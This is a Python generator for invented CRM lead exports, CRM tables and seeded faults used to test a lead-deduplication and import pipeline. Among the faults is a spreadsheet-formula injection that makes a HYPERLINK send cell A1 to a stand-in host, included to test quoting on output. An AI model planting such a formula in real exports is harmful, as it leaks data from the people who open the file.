#!/usr/bin/env python3
"""Makes every data file of this folder: lead exports, CRM tables, activities, owners, and the truth about duplicates.

    python3 sample_data/generate.py

All persons and companies are invented. The same seed gives the same bytes; nothing reads the clock (the reference
date is 2026-10-15). Names, places and fragments of text come from pools/, by way of people.py. In order: companies, persons, the CRM's own
tables, one clean lead row per export row, distortions for the rows that repeat a person, deliberate faults, files.
"""
import csv
import io
import re
import sys
import uuid
from collections import defaultdict
from datetime import datetime, timedelta

sys.dont_write_bytecode = True
from people import (COUNTRY, FORM_VARIANTS, HERE, LANDS, NOTES, POOLS, CITY_EN, STREET_SHORT, TODAY, chance, compose, digits, full_last, key_for, latin,
                    latin_company, make_company, make_person, moment, pick, plain, pool_of, rng, unique)


# -- the lead row, still without a format ----------------------------------------------------------------
EXPORTS = {  # file: system, share, first day, cyrillic, factor per country
    "hubspot_webinar_2026-09.csv": ("hubspot", 22, datetime(2026, 8, 25), 0.55, {"ES": 1.5, "IT": 1.4, "PL": 1.5}),
    "hubspot_fair_2026-10.csv": ("hubspot", 13, datetime(2026, 9, 28), 0.6, {"DE": 1.7, "BG": 1.8, "US": 0.2}),
    "salesforce_leads.csv": ("salesforce", 26, datetime(2025, 9, 1), 0.12, {"GB": 2, "US": 2.5, "ES": 1.4, "BG": 0.6}),
    "dynamics365_leads.csv": ("dynamics365", 23, datetime(2025, 4, 1), 0.5, {"BG": 1.3, "DE": 1.3, "AT": 1.6, "GB": 0.4}),
    "act_contacts.txt": ("act", 16, datetime(2018, 3, 1), 0, {"DE": 1.6, "AT": 2, "CH": 2.2, "US": 0.1, "PL": 0.4}),
}
OWNERS = {"anna": ("de en", 260, ""), "jan": ("de pl en", 300, ""), "maria": ("es en", 320, ""), "georgi": ("bg en", 360, ""), "lucia": ("it es", 320, "2026-10-26"),
          "tomasz": ("pl en", 160, ""), "emma": ("en", 240, ""), "pierre": ("fr en de", 160, "2026-11-09")}
# Who left the newsletter: an address, a competitor's domain, and the SHA-256 of an address that an agency may not hand on.
PRICES = [  # product, family, price, currency, discount, valid_from, valid_until, product_id
    ["Warehouse Suite", "Software", "4800.00", "EUR", "", "", "", "WS-10"],
    ["Field Service", "Software", "3600.00", "EUR", "", "", "", "FS-10"],
    ["Route Planner", "Software", "2400.00", "EUR", "", "", "", "RP-10"],
    ["Label Printing", "Hardware", "1250.00", "EUR", "", "", "2026-09-30", "LP-20"],
    ["Label Printing", "Hardware", "1250.00", "EUR", "10", "2026-10-01", "2026-12-31", "LP-20"],
    ["Scanner Kit", "Hardware", "890.00", "EUR", "", "", "", "SK-20"],
    ["Shop Floor Terminal", "Hardware", "1990.00", "EUR", "", "", "", "ST-20"],
    ["Maintenance Plan", "Services", "1200.00", "EUR", "", "", "", "MP-30"],
    ["Training", "Services", "980.00", "EUR", "", "", "", "TR-30"],
]
INVOICES = [  # document_id, lead_id, email, status, amount, currency, date
    ["R-0107", "", "annika@weiss-de.example", "Paid", "14900.00", "EUR", "2026-05-11"],
    ["R-0131", "00Q5g00000QqZDoEAN", "", "Paid", "6200.00", "EUR", "2026-05-28"],
    ["R-0204", "", "carmichael.gillian@wharfedalehaulageinteriors.example", "Paid", "7450.00", "GBP", "2026-06-30"],
    ["R-0231", "00Q5g00000g3lepEAA", "", "Paid", "5400.00", "EUR", "2026-07-20"],
    ["R-0230", "", "william@readingbakery.example", "Overdue", "3120.00", "GBP", "2026-08-14"],
    ["R-0266", "", "ormerod@glasgow-textiles.example", "Paid", "1980.00", "GBP", "2026-08-31"],
    ["R-0270", "", "ormerod@glasgow-textiles.example", "Credit note", "198.00", "GBP", "2026-09-15"],
    ["R-0301", "00Q5g00000hi1KoEAI", "", "Open", "38900.00", "EUR", "2026-10-05"],
    ["R-0302", "", "till@station-cafe.example", "Paid", "80.00", "EUR", "2026-10-05"],
    ["R-0310", "00Q5g00000FwN6bEAF", "", "Draft", "890.00", "USD", "2026-10-12"],
]
UNSUBSCRIBED = [
    ["robert.jessop@wilson-jessop.example", "answered the September mail"],
    ["@kowalski-i.example", "competitor"],
    ["2fdc5e0e314b567f7411a8e51ed3db5b438a4fd6740602460f8c02d44b229bbf", "agency"],
]

TERRITORIES = [["Germany", "", "", "anna"], ["Germany", "", "7", "jan"], ["Germany", "", "8", "jan"], ["Germany", "", "80", "anna; jan"], ["Germany", "Sachsen", "", "pierre"],
               ["Austria", "", "", "jan"], ["Switzerland", "", "", "anna; pierre"]]
STRANGERS = ["s.keller", "import", "ivo", "Vertrieb Süd"]


def owner_for(lang):
    if chance(0.14):
        return ""
    if chance(0.035):
        return pick(STRANGERS)
    fits = [o for o, (langs, _, _) in OWNERS.items() if langs.split()[0] == lang or chance(0.04) or (lang in langs.split() and chance(0.3))]
    return pick(fits or list(OWNERS))


def phone_text(phone, place):
    code, trunk, area, sub = phone
    step = pick([2, 3, 3, 4])
    if not area:
        cut = 4 if code == "44" else 1 if code == "33" else 3
        area, sub = sub[:cut], sub[cut:]
    groups = sub if chance(0.4) else re.sub(r" (\d)$", r"\1", " ".join(sub[i:i + step] for i in range(0, len(sub), step)))
    if code == "1":
        return pick([f"({area}) {sub[:3]}-{sub[3:]}", f"+1 {area} {sub[:3]} {sub[3:]}", f"{area}-{sub[:3]}-{sub[3:]}", f"1{area}{sub}", f"{area}.{sub[:3]}.{sub[3:]}"])
    forms = [f"+{code} {area} {groups}", f"+{code}{area}{sub}", f"{trunk}{area} {groups}", f"{trunk}{area}{pick(['/', '-', ' '])}{sub}", f"00{code} {area} {sub}"]
    if trunk:
        forms.append(f"+{code} ({trunk}){area} {groups}")
    return pick(forms, [6, 3, 5, 3, 1, 1][:len(forms)])


def street_text(company, cyr):
    street, number, lang = company.street, company.number, company.place["lang"]
    text = {"de": f"{street} {number}", "en": f"{number} {street}", "fr": f"{number} {street}", "es": f"{street}, {number}", "pl": f"{street} {number}",
            "it": f"{street}, {number}" if chance(0.6) else f"{street} {number}", "bg": f"{street} {pick(['', '', '№ ', '№'])}{number}"}[lang]
    text = text if cyr else latin(text).replace("№", "No")
    return shorten_street(text) if chance(0.3) else text


def shorten_street(text):
    fits = [(long, short) for long, short in STREET_SHORT if long in text and (long not in ("ul. ", "ул. ") or text.startswith(long))]
    return text.replace(*pick(fits), 1) if fits else text


def make_row(person, file, full=False):
    """A clean row of this person for this export; `full` leaves nothing out that helps to find the person again."""
    system, _, start, cyr_share, _ = EXPORTS[file]
    company, place = person.company, person.company.place
    cyr = chance(cyr_share)
    script = (lambda t: t) if cyr or person.lang != "bg" else latin
    keep = lambda value, p: value if full or chance(p) else ""
    created = moment(start, skew=2.2 if system in ("salesforce", "dynamics365") else 1.2)
    if "webinar" in file and chance(0.5):
        created = created.replace(month=9, day=pick([14, 15, 16, 17, 17, 17, 18]))
    if "fair" in file:
        created = created.replace(month=10, day=pick([5, 6, 6, 7, 7, 7, 8, 8, 9]))
    row = dict(person=person, file=file, system=system, lang=person.lang, created=created, modified=moment(created, skew=1.3) if chance(0.7) else created, full=full)
    row["modified"] = max(row["modified"], created)
    row.update(first=script(person.first), last=script(person.last), salutation=keep(salutation(person), 0.5), title=script(keep(person.title, 0.8)))
    row["company"] = (company.name if cyr or person.lang != "bg" else latin_company(company.name)) if person.work else keep("", 0)
    row["website"] = keep(pick(["www.{}", "https://www.{}", "https://{}/", "{}", "http://{}"]).format(company.domain), 0.5) if person.work else ""
    email = "info@" + company.domain if "info" in person.flags else person.email
    row["email"] = keep(email, 0.55 if system == "act" else 0.94)
    row["phone"] = keep(company.phone if "info" in person.flags else person.direct, 0.85 if system == "act" else 0.68)
    row["mobile"] = keep(person.mobile, 0.42)
    row["fax"] = company.phone[:3] + (digits(place["subscriber"]),) if system in ("act", "salesforce") and chance(0.22) else ""
    city = place["city"]
    row["street"] = keep(street_text(company, cyr), 0.62)
    row["city"] = script(CITY_EN.get(city, city) if chance(0.15 if system != "salesforce" else 0.4) else city)
    row["zip"] = keep(company.zip, 0.97) if row["street"] else keep(company.zip, 0.35)
    row["city"] = row["city"] if row["street"] else keep(row["city"], 0.8)
    row["region"] = script(place["region"]) if place["country"] in ("US", "CH", "IT") and chance(0.8) or chance(0.3) else ""
    english, german, local = COUNTRY[place["country"]]
    names = {"hubspot": [english, english, english, place["country"]], "salesforce": [english], "dynamics365": [german, german, german, place["country"]],
             "act": [english, german, latin(local), place["country"]]}[system]
    row["country"] = keep(local if cyr and person.lang == "bg" and chance(0.6) else pick(names), 0.88)
    budget = int(rng.lognormvariate(9.3, 0.95))
    row["budget"] = 0 if chance(0.02) else max(500, budget // 500 * 500) if chance(0.85) else budget
    row["value"] = row["budget"] * pick([1, 1, 2, 3]) if chance(0.5) else int(rng.lognormvariate(9.6, 0.8)) // 100 * 100
    row["has_budget"] = chance(0.55)
    row["timeframe"] = pick(["Immediate", "This Quarter", "Next Quarter", "This Year", "Unknown", ""], [8, 15, 18, 16, 14, 29])
    row["product"] = pick(NOTES["products"], [9, 5, 4, 4, 5, 2, 3, 1]) if chance(0.6) else ""
    speech = "en" if person.lang != "en" and chance(0.2 if system != "act" else 0.35) else person.lang
    row["message"] = compose(speech, city=script(city)) if chance(0.62 if system != "act" else 0.45) else ""
    if not cyr:
        row["message"] = row["message"] if system in ("hubspot", "dynamics365", "salesforce") else latin(row["message"])
    row["note"] = compose(speech, pick(["call", "call", "task"]), script(city)) if chance(0.5) else ""
    row["owner"] = owner_for(person.lang)
    row["no_email"], row["no_call"] = chance(0.06), chance(0.035)
    look = rng.random()  # how the typist wrote
    if look < 0.025:
        row.update(first=row["first"].upper(), last=row["last"].upper())
    elif look < 0.05:
        row.update(first=row["first"].lower(), last=row["last"].lower())
    elif look < 0.07:
        row["company"] = row["company"].upper()
    elif look < 0.10:
        field_ = pick(["first", "last", "company", "email", "city"])
        row[field_] = pick([" {}", "{} ", "{}  "]).format(row[field_]) if row[field_] else ""
    elif look < 0.13 and not full:
        name, value = pick([("email", "test@test.com"), ("email", "n/a"), ("phone", "000000"), ("company", "n/a"), ("company", "-"), ("company", "unknown"), ("title", "-"),
                            ("city", "n/a"), ("phone", "n/a"), ("zip", "0000"), ("company", "privat"), ("email", "noreply@test.com"), ("street", "unknown")])
        row[name] = value
    return row


def salutation(person):
    words = {"de": ("Herr", "Frau"), "es": ("Sr.", "Sra."), "it": ("Sig.", "Sig.ra"), "fr": ("M.", "Mme"), "bg": ("Mr.", "Ms."), "en": ("Mr.", "Ms."), "pl": ("Pan", "Pani")}
    return words[person.lang][person.female]


# -- distortions of a repeated person --------------------------------------------------------------------
def typo(word):
    if len(word) < 4:
        return word
    at = rng.randrange(1, len(word) - 1)
    return pick([word[:at] + word[at + 1:], word[:at] + word[at] + word[at:], word[:at] + word[at + 1] + word[at] + word[at + 2:]])


def respell_company(row):
    company = row["person"].company
    core, form = company.core, pick(FORM_VARIANTS.get(company.form, [""]))
    if chance(0.25):
        core = core.replace(" & ", " und " if row["lang"] == "de" else " and ") if " & " in core else typo(core)
    if chance(0.2) and row["lang"] == "de":
        core = plain(core)
    name = f"{core} {form}".strip()
    return latin_company(name) if row["lang"] == "bg" and row["company"].isascii() else name


def distort(row):
    person, lang = row["person"], row["lang"]
    nicks = POOLS[lang]["nick"].get(person.first)
    script = (lambda t: t) if not row["first"].isascii() or lang != "bg" else latin
    kinds = ["light", "typo_last", "typo_first", "swap", "initial", "private", "moved", "sparse", "plain", "company", "email_only"]
    weights = [14, 11, 6, 5, 6, 9, 7, 11, 9, 12, 4]
    if nicks:
        kinds, weights = kinds + ["nick"], weights + [28]
    if " " in person.last and lang == "es":
        kinds, weights = kinds + ["one_surname"], weights + [34]
    if lang == "bg":
        kinds, weights = kinds + ["script"], weights + [30]
    for kind in sorted({pick(kinds, weights) for _ in range(pick([1, 2, 2]))}):
        if kind == "typo_last":
            row["last"] = typo(row["last"])
        elif kind == "typo_first":
            row["first"] = typo(row["first"])
        elif kind == "swap":
            row["first"], row["last"] = row["last"], row["first"]
        elif kind == "initial":
            row["first"] = row["first"].strip()[:1] + pick([".", ""])
        elif kind == "nick":
            row["first"] = script(pick(nicks))
        elif kind == "one_surname":
            row["last"] = row["last"].split()[0] if row["last"].split() else row["last"]
        elif kind == "script":
            row["first"], row["last"] = (latin(person.first, chance(0.5)), latin(person.last, chance(0.5))) if row["system"] != "act" and not row["first"].isascii() else \
                (latin(person.first, True), latin(person.last, True))
            row["company"] = latin_company(person.company.name) if chance(0.6) and person.work else row["company"]
        elif kind == "private":
            row["email"] = person.private
        elif kind == "plain":
            row.update({f: plain(row[f]) for f in ("first", "last", "street", "city")})
        elif kind == "company" and person.work:
            row["company"] = respell_company(row)
        elif kind == "moved":
            new = pick([c for c in COMPANIES if c.country == person.company.country and c is not person.company])
            row["moved"] = True
            row.update(company=new.name if script is not latin else latin_company(new.name), email=pick([person.private, ""]), phone=new.phone, website="", mobile=person.mobile, title="",
                       street="", zip=new.zip, city=script(new.place["city"]), region="")
        elif kind in ("sparse", "email_only"):
            for name in ("phone", "mobile", "street", "zip", "title", "website", "region"):
                row[name] = "" if kind == "email_only" or chance(0.7) else row[name]
            if kind == "sparse" and chance(0.4) and row["company"].strip() and row["city"]:
                row["email"] = ""
    row["mobile"] = person.mobile if row.get("moved") else row["mobile"]
    if not any(row[f] for f in ("email", "phone", "mobile")) and not row["company"].strip():
        row["email"] = person.email
    return row


# -- the people ------------------------------------------------------------------------------------------
SHARES = [land[3] for land in LANDS.values()]
COMPANIES = [make_company(pick(list(LANDS), SHARES)) for _ in range(790)]
SIZES = [2] * 152 + [3] * 38 + [4] * 12 + [5] * 5
crowd = [pick(COMPANIES, [1 / (1 + i % 97) ** 0.45 for i in range(len(COMPANIES))]) for _ in range(1720 - 110)]
PEOPLE = [make_person(company) for company in crowd]

for company in rng.sample([c for c in COMPANIES if crowd.count(c) < 3], 14):  # colleagues behind one mailbox and one switchboard
    for _ in range(pick([2, 3, 3])):
        PEOPLE.append(make_person(company))
        PEOPLE[-1].work = True
        PEOPLE[-1].flags.update({"info", "lonely"})
while sum("kin" in p.flags for p in PEOPLE) < 26:  # father and son, mother and daughter: one initial, one address
    company = pick(COMPANIES)
    female = chance(0.3)
    names = sorted(set(pool_of(company.place)["first_f" if female else "first_m"]))
    first = pick(names)
    twins = [n for n in names if n[0] == first[0] and n != first]
    if twins:
        last = full_last(company.place, pick(key_for(company.place, "last")), female)
        for name in (first, pick(twins)):
            PEOPLE.append(make_person(company, name, last, female))
            PEOPLE[-1].direct = company.phone
            PEOPLE[-1].flags.update({"kin", "lonely"})
for other in rng.sample([p for p in PEOPLE if not p.flags], 45):  # namesakes elsewhere
    company = pick([c for c in COMPANIES if c.place["lang"] == other.lang and c.place["city"] != other.company.place["city"]])
    PEOPLE.append(make_person(company, other.first, other.last, other.female))
    PEOPLE[-1].flags.add("lonely")
    other.flags.add("lonely")

PEOPLE = list({(p.first, p.last, p.company.domain): p for p in PEOPLE}.values())  # nobody has a namesake in the same firm
repeated = rng.sample([p for p in PEOPLE if "lonely" not in p.flags], len(SIZES))
rng.shuffle(PEOPLE)
for number, person in enumerate(PEOPLE, 1):
    person.cluster = f"p{number:04}"
SIZE_OF = {id(p): size for p, size in zip(repeated, SIZES)}


# -- what the CRM has already ----------------------------------------------------------------------------
def guid():
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def crm_tables():
    known = rng.sample(sorted({p.company.domain for p in PEOPLE if p.work}), 92)
    known = [next(c for c in COMPANIES if c.domain == d) for d in known]
    known += [make_company(pick(list(LANDS), SHARES)) for _ in range(39)]
    rng.shuffle(known)
    number, accounts, contacts, deals = 10040, [], [], []
    for company in known:
        number += rng.randrange(1, 60)
        company.account = f"A-{number}"
        name = company.name if chance(0.7) else f"{company.core} {pick(FORM_VARIANTS.get(company.form, ['']))}".strip()
        parent = pick(accounts)[0] if len(accounts) > 20 and chance(0.1) else ""
        script = latin if company.place["lang"] == "bg" and chance(0.4) else str
        filled = chance(0.85)
        accounts.append([company.account, name if script is str else latin_company(name), phone_text(company.phone, company.place) if chance(0.9) else "", "https://www." + company.domain if chance(0.75) else "",
                         street_text(company, script is str) if filled else "", script(company.place["city"]), company.zip if filled else "", COUNTRY[company.country][0], parent,
                         "Inactive" if chance(0.08) else "Active"])
    leads = defaultdict(list)
    for person in PEOPLE:
        leads[person.company.domain].append(person)
    for company in known:
        for person in [p for p in leads[company.domain] if p.work and chance(0.42)] + [make_person(company) for _ in range(pick([0, 1, 1, 2]))]:
            person.contact = guid()
            name = f"{person.first} {person.last}"
            contacts.append([person.contact, latin(name) if chance(0.4) else name, person.title if chance(0.8) else "", person.email if chance(0.9) else "",
                             phone_text(person.direct, company.place) if chance(0.75) else "", company.account, "Inactive" if chance(0.07) else "Active"])
    contacts = contacts[:176]
    alive = {c[0] for c in contacts}
    for person in PEOPLE:
        person.contact = person.contact if person.contact in alive else ""
    for contact in rng.sample(contacts, 70):
        product, status = pick(NOTES["products"]), pick(["Open", "Open", "Open", "Won", "Won", "Lost"])
        company = next(c for c in known if c.account == contact[5])
        topic = pick(["{p} {c}", "{p}: {n} users", "{c} - {p}", "Renewal {p}", "{p} phase {k}", "Pilot {p}, {t}", "{n} licences {p}"])
        closed = "" if status == "Open" else f"{moment(datetime(2024, 11, 1), skew=1.4):%Y-%m-%d}"
        deals.append([guid(), topic.format(p=product, c=company.core, n=rng.randrange(3, 80), k=pick([1, 2, 3]), t=company.place["city"]), contact[5],
                      contact[0] if chance(0.85) else "", product if chance(0.85) else "", f"{int(rng.lognormvariate(9.7, 0.7)) // 100 * 100}.00", closed, status, pick(list(OWNERS))])
    write("crm_accounts.csv", ["Account Number", "Account Name", "Main Phone", "Website", "Address 1: Street 1", "Address 1: City", "Address 1: ZIP/Postal Code",
                               "Address 1: Country/Region", "Parent Account", "Status"], accounts)
    write("crm_contacts.csv", ["(Do Not Modify) Contact", "Full Name", "Job Title", "Email", "Business Phone", "Account Number", "Status"], contacts)
    write("crm_opportunities.csv", ["(Do Not Modify) Opportunity", "Topic", "Account Number", "(Do Not Modify) Contact", "Product Interest", "Est. Revenue",
                                    "Actual Close Date", "Status", "Owner"], deals)
    write("owners.csv", ["owner", "email", "capacity", "languages", "absent_until"],
          [[o, f"{o}@leadmill-sales.example", cap, langs, away] for o, (langs, cap, away) in OWNERS.items()])
    write("territories.csv", ["country", "region", "postcode", "owner"], TERRITORIES)
    write("unsubscribed.csv", ["email", "reason"], UNSUBSCRIBED)
    write("prices.csv", ["product", "family", "price", "currency", "discount", "valid_from", "valid_until", "product_id"], PRICES)
    write("invoices.csv", ["document_id", "lead_id", "email", "status", "amount", "currency", "date"], INVOICES)


# -- the exports -----------------------------------------------------------------------------------------
def record(cells, delimiter=",", eol="\n", quote_all=False):
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=eol, quoting=csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL).writerow(cells)
    return out.getvalue()


def write(name, header, rows, encoding="utf-8", **shape):
    (HERE / name).write_bytes("".join(record(r, **shape) for r in [header, *rows]).encode(encoding))


def make_id(system, created):
    alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    if system == "hubspot":
        return unique(lambda n: str(int(created.timestamp()) // 60 * 7321 + rng.randrange(7000)))
    if system == "dynamics365":
        return guid()
    if system == "act":
        return unique(lambda n: "".join(rng.choices("ABCDEFGHJKLMNPQRSTUVWXYZ23456789", k=10)))
    body = unique(lambda n: "00Q5g00000" + "".join(rng.choices(alnum, k=5)))
    tail = "".join("ABCDEFGHIJKLMNOPQRSTUVWXYZ012345"[sum(1 << i for i, ch in enumerate(body[k:k + 5]) if ch.isupper())] for k in (0, 5, 10))
    return body + tail


def money(value, style):
    if value in ("", None) or isinstance(value, str):
        return value or ""
    text = f"{value:,.2f}"
    return {"plain": str(value), "us": text, "de": text.replace(",", " ").replace(".", ",").replace(" ", ".")}[style]


def stamp(value, style):
    return value if isinstance(value, str) else {"iso": f"{value:%Y-%m-%d %H:%M}", "us": f"{value.month}/{value.day}/{value.year}",
                                                 "de": f"{value:%d.%m.%Y %H:%M}", "act": f"{value:%d/%m/%Y}"}[style]


HUBSPOT = {"Record ID": "id", "First Name": "first", "Last Name": "last", "Email": "email", "Phone Number": "phone", "Mobile Phone Number": "mobile", "Job Title": "title",
           "Company Name": "company", "Website URL": "website", "Street Address": "street", "City": "city", "State/Region": "region", "Postal Code": "zip",
           "Country/Region": "country", "Lead Status": "status", "Original Source": "source", "Contact owner": "owner", "Create Date": "created",
           "Last Modified Date": "modified", "Unsubscribed from all email": "no_email", "Budget (EUR)": "budget", "Purchase Timeframe": "timeframe", "Message": "message"}
WEBINAR = [*HUBSPOT][:16] + ["Webinar attended", "Create Date", "Last Modified Date", "Contact owner", *[*HUBSPOT][19:]]
COLUMNS = {
    "hubspot_webinar_2026-09.csv": {h: HUBSPOT.get(h, "attended") for h in WEBINAR},
    "hubspot_fair_2026-10.csv": HUBSPOT,
    "salesforce_leads.csv": {"Lead ID": "id", "Salutation": "salutation", "First Name": "first", "Last Name": "last", "Title": "title", "Company": "company", "Email": "email",
                             "Phone": "phone", "Mobile": "mobile", "Fax": "fax", "Street": "street", "City": "city", "State/Province": "region", "Zip/Postal Code": "zip",
                             "Country": "country", "Website": "website", "Lead Source": "source", "Lead Status": "status", "Rating": "rating", "Lead Owner": "owner",
                             "Created Date": "created", "Last Modified Date": "modified", "Email Opt Out": "no_email", "Do Not Call": "no_call",
                             "Product Interest": "product", "Estimated Value": "value", "Description": "message"},
    "dynamics365_leads.csv": {"(Do Not Modify) Lead": "id", "(Do Not Modify) Row Checksum": "checksum", "(Do Not Modify) Modified On": "modified", "Topic": "topic",
                              "First Name": "first", "Last Name": "last", "Job Title": "title", "Company Name": "company", "Email": "email", "Business Phone": "phone",
                              "Mobile Phone": "mobile", "Street 1": "street", "City": "city", "State/Province": "region", "ZIP/Postal Code": "zip",
                              "Country/Region": "country", "Website": "website", "Lead Source": "source", "Status": "status", "Status Reason": "reason", "Owner": "owner",
                              "Created On": "created", "Budget Amount": "budget", "Purchase Timeframe": "timeframe", "Purchase Process": "process", "Est. Value": "value",
                              "Est. Close Date": "close", "Parent Account for lead": "account", "Parent Contact for lead": "contact",
                              "Do not allow Emails": "no_email", "Do not allow Phone Calls": "no_call", "Newsletter": "newsletter"},
    "act_contacts.txt": {"Unique ID": "id", "Contact": "full", "Salutation": "salutation", "Title": "title", "Company": "company", "E-mail": "email", "Phone": "phone",
                         "Mobile Phone": "mobile", "Fax Phone": "fax", "Address 1": "street", "Address 2": "street2", "City": "city", "State": "region", "ZIP Code": "zip",
                         "Country": "country", "Web Site": "website", "ID/Status": "status", "Referred By": "referred", "Record Manager": "owner",
                         "Edit Date": "modified", "Create Date": "created", "Last Results": "note"},
}


def finish(row):
    """The values only this export has, and everything as text."""
    system, place, person = row["system"], row["person"].company.place, row["person"]
    for name in ("phone", "mobile", "fax"):
        row[name] = phone_text(row[name], place) if isinstance(row[name], tuple) else row[name]
    if system == "hubspot":
        fair = "fair" in row["file"]
        row["status"] = pick(["New", "Open", "In progress", "Attempted to contact", "Connected", "Unqualified", ""], [40, 14, 9, 8, 7, 3, 12])
        row["source"] = pick(["Offline Sources", "Email Marketing", "Organic Search", "Direct Traffic", "Paid Social", "Referrals"], [85, 3, 3, 5, 2, 4] if fair else [6, 44, 20, 14, 11, 5])
        row["attended"] = pick(["true", "false", ""], [55, 40, 5])
        row["no_email"] = "true" if row["no_email"] else pick(["false", ""], [3, 1])
        row["budget"] = money(row["budget"], pick(["plain", "plain", "us"])) if row["has_budget"] or isinstance(row["budget"], str) else ""
        dates = "iso"
    elif system == "salesforce":
        row["source"] = pick(["Web", "Phone Inquiry", "Partner Referral", "Purchased List", "Trade Show", "Employee Referral", "Other", ""], [38, 9, 12, 17, 11, 3, 6, 4])
        row["status"] = pick(["Open - Not Contacted", "Working - Contacted", "Closed - Converted", "Closed - Not Converted"], [56, 31, 5, 8])
        row["rating"] = pick(["Hot", "Warm", "Cold", ""], [8, 22, 17, 53])
        row["no_email"], row["no_call"] = str(int(row["no_email"])), str(int(row["no_call"]))
        row["value"] = money(row["value"], pick(["plain", "us"])) if row["has_budget"] else ""
        row["street"] += pick(["\nFloor 2", "\nUnit 7", "\nBuilding C", "\nGate 3"]) if row["street"] and chance(0.14) else ""
        dates = "us"
    elif system == "dynamics365":
        german = row["lang"] == "de"
        product, size = row["product"] or pick(NOTES["products"]), rng.randrange(3, 60)
        row["topic"] = pick([f"Anfrage {product}" if german else f"Inquiry {product}", f"{product} / {size} user", product, f"{row['company'].strip() or row['last'].strip()}: {product}", "Messekontakt",
                             f"Webinar {product}", "Rückrufbitte" if german else "Callback", f"Empfehlung {pick(NOTES['events'])}", f"{product} {place['city']}"], [6, 5, 6, 6, 2, 2, 2, 2, 3])
        row["checksum"] = "".join(rng.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", k=22))
        row["source"] = pick(["Web", "Trade Show", "Partner", "Word of Mouth", "Advertisement", "External Referral", "Employee Referral", "Seminar", ""], [30, 22, 11, 9, 8, 7, 4, 4, 8])
        row["status"], row["reason"] = pick([("Open", "New"), ("Open", "Contacted"), ("Qualified", "Qualified"), ("Disqualified", "Lost"), ("Disqualified", "Cannot Contact"),
                                             ("Disqualified", "No Longer Interested"), ("Disqualified", "Canceled")], [56, 26, 5, 4, 4, 4, 1])
        row["budget"] = money(row["budget"], "de") if row["has_budget"] or isinstance(row["budget"], str) else ""
        row["value"] = money(row["value"], "de") if chance(0.45) else ""
        row["process"] = pick(["Individual", "Committee", "Unknown", ""], [18, 20, 15, 47])
        row["close"] = f"{TODAY + timedelta(days=rng.randrange(10, 260)):%d.%m.%Y}" if row["value"] and chance(0.7) else ""
        row["no_email"], row["no_call"] = ("Do Not Allow" if row[f] else "Allow" for f in ("no_email", "no_call"))
        row["newsletter"] = pick(["Yes", "No", ""], [3, 5, 2])
        row.setdefault("account", person.company.account if chance(0.75) and person.work else "")
        row.setdefault("contact", person.contact if row["account"] else "")
        dates = "de"
    else:
        last_first = chance(0.45)
        row["full"] = row.get("full_name") or (f"{row['last']}, {row['first']}" if last_first else f"{row['first']} {row['last']}")
        row["street2"] = pick(["Postfach 1124", "Hinterhaus", "2. OG", "c/o Lager", "ent. 3"]) if row["street"] and chance(0.06) else ""
        row["status"] = pick(["Prospect", "Hot Lead", "Lead", "Customer", "Interessent", "Cold", "Partner", ""], [34, 5, 17, 6, 14, 9, 2, 13])
        row["referred"] = pick(["Messe", "Trade fair", "Internet", f"{pick(list(OWNERS)).title()}", "Mailing 2023", "Empfehlung", "Tel.", "newsletter"]) if chance(0.38) else ""
        row["note"] = " ".join(row["note"].split())
        dates = "act"
    row["created"], row["modified"] = stamp(row["created"], dates), stamp(row["modified"], dates)
    return [row.get(name, "") for name in COLUMNS[row["file"]].values()]


# -- deliberate faults -----------------------------------------------------------------------------------
FAULTS = {  # kind: (what, expected outcome)
    "short": ("the last cells are missing", "kept, finding short_row"), "long": ("two filled cells too many", "reject long_row"),
    "long_empty": ("three empty cells too many", "kept"), "blank": ("blank line", "no row"), "no_name": ("neither first nor last name", "reject no_name"),
    "no_one": ("placeholders instead of a name", "reject no_name"), "header": ("the header again", "reject (repeated header)"), "trailer": ("trailer line", "reject no_name"),
    "bad_email": ("invalid e-mail", "kept, finding"), "bad_date": ("impossible date", "kept, finding"), "bad_budget": ("letters in the budget", "kept, finding"),
    "bad_phone": ("absurd phone number", "kept, finding"), "mojibake": ("UTF-8 read as Windows-1252", "kept"), "spaces": ("leading, trailing and non-breaking spaces", "kept"),
    "caps": ("capitals only", "kept"), "lower": ("small letters only", "kept"), "emoji": ("emoji", "kept"), "formula": ("cells that look like formulas", "kept, quoted in CSV output"),
    "long_note": ("a very long note", "kept"),
}
PLAN = {
    "hubspot_webinar_2026-09.csv": "short long long_empty blank no_name header bad_email emoji mojibake formula spaces",
    "hubspot_fair_2026-10.csv": "short blank no_name bad_email bad_budget bad_phone lower emoji",
    "salesforce_leads.csv": "long long_empty no_one no_name formula bad_date long_note bad_phone caps mojibake trailer",
    "dynamics365_leads.csv": "short long header no_name bad_email bad_date bad_budget spaces formula",
    "act_contacts.txt": "short long header no_name blank mojibake bad_date spaces trailer",
}


def spoil(kind, row):
    """A fault in the values of a row; the faults in its shape come when the file is written."""
    system = row["system"]
    if kind in ("no_name", "no_one"):
        name = "" if kind == "no_name" else pick(["n/a", "unknown"])
        row.update(first=name, last=name, full_name=" ", salutation="")
    elif kind == "bad_email":
        row["email"] = pick(["{}@@{}", "{}(at){}", "{}@{}..", "{} {}"]).format(*(row["person"].email.split("@")))
    elif kind == "bad_date":
        row["modified"] = {"salesforce": "2/31/2026", "dynamics365": "31.02.2026 09:15"}.get(system, "31/02/2026")
    elif kind == "bad_budget":
        row["budget"] = "ca. 20k" if system == "hubspot" else "12.5OO,OO"
    elif kind == "bad_phone":
        row["phone"] = pick(["1234567890123456789012", "call me", "+49 12"])
    elif kind == "mojibake":
        row["last"] = row["last"].encode("utf-8").decode("cp1252")
    elif kind == "spaces":
        row.update(first=f"\u00a0{row['first']} ", last=f"  {row['last']}\u00a0", company=row["company"].replace(" ", "\u00a0") + "  ")
    elif kind in ("caps", "lower"):
        row.update({f: row[f].upper() if kind == "caps" else row[f].lower() for f in ("first", "last", "company", "city", "street")})
    elif kind == "emoji":
        row["first"] = row["first"] + " \U0001f600" if chance(0.5) else row["first"]
        row["message"] = "\U0001f44d " + compose(row["lang"]) + " \U0001f680\U0001f680"
    elif kind == "formula":
        row["message"] = row["topic"] = '=HYPERLINK("http://prize.example/?x="&A1,"open the quote")'
